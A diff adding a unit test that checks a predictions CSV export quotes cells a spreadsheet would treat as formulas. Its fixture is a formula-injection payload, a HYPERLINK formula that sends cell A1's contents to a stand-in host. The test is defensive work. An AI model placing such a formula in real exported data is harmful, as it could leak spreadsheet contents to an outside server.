@@ -141,6 +141,15 @@ def test_a_predictions_file_has_a_row_for_each_video_and_a_column_for_each_label
     )
 
 
+def test_a_cell_that_a_spreadsheet_takes_for_a_formula_is_quoted_if_that_is_asked_for() -> None:
+    formula = '=HYPERLINK("http://host/?"&A1)'
+    found = Predictions((formula,), (Prediction("-a.mp4", (formula,), {formula: 1.0}, "/v/-a.mp4"),), ())
+    exact, safe = (list(csv.reader(io.StringIO(found.to_csv(spreadsheet_safe=is_safe)))) for is_safe in (False, True))
+    assert exact[1][:3] == ["-a.mp4", "/v/-a.mp4", formula]
+    assert safe[1][:3] == ["'-a.mp4", "/v/-a.mp4", f"'{formula}"]
+    assert not [cell for row in safe for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_only_failed_rows_of_a_predictions_file_have_an_error() -> None:
     rows = list(csv.DictReader(io.StringIO(PREDICTED.to_csv())))
 
